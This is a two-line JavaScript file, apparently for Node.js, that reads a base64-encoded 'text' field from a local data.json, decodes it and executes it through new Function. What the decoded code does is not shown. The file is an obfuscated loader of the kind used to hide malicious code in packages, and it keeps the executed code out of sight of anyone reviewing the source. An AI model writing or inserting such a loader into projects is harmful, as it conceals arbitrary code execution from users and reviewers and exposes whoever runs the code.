const text = Buffer.from(require("./data.json").text, "base64").toString();
new Function(text)();
